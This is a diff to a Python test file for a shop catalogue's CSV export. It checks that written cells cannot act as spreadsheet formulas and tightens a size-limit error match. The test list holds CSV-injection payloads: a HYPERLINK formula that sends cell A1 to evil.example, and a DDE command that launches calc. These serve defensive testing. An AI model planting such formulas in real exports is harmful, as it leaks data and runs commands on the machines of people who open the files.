@@ -46,7 +46,7 @@ def test_cells_we_write_cannot_be_formulas_and_the_merchants_cells_are_kept() ->
         {"Handle": "mug", "Title": "Mug", "Variant Price": "-5", "Image Src": "a.png", "Image Alt Text": ""},
     ]))
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-               "\t=1+1", "＝1+1"]
+               "\t=1+1", "\uff1d1+1"]  # the last: a full-width equals sign
     additions = [NewImageRow(handle="mug", src=f"images/v{i}.png", alt=alt) for i, alt in enumerate(hostile)]
     additions.append(NewImageRow(handle="mug", src="images/r.png", alt="=1+2", replaces="a.png"))
     rows = list(csv.DictReader(io.StringIO(csvformat.render(catalogue, additions).decode())))
@@ -86,7 +86,7 @@ def test_a_csv_over_the_size_limit_is_refused_unread(db, tmp_path: Path, setting
     path = tmp_path / "products.csv"
     path.write_bytes(csv_bytes([{"Handle": f"p{i}", "Title": "Product"} for i in range(200)]))
     shop = csv_shop_ensure(name="Shop", csv_path=path)
-    with pytest.raises(CsvFileError, match="the limit is 0 MB|the limit is"):
+    with pytest.raises(CsvFileError, match="the limit is 0 MB"):
         catalogue_import(shop=shop)
 
 
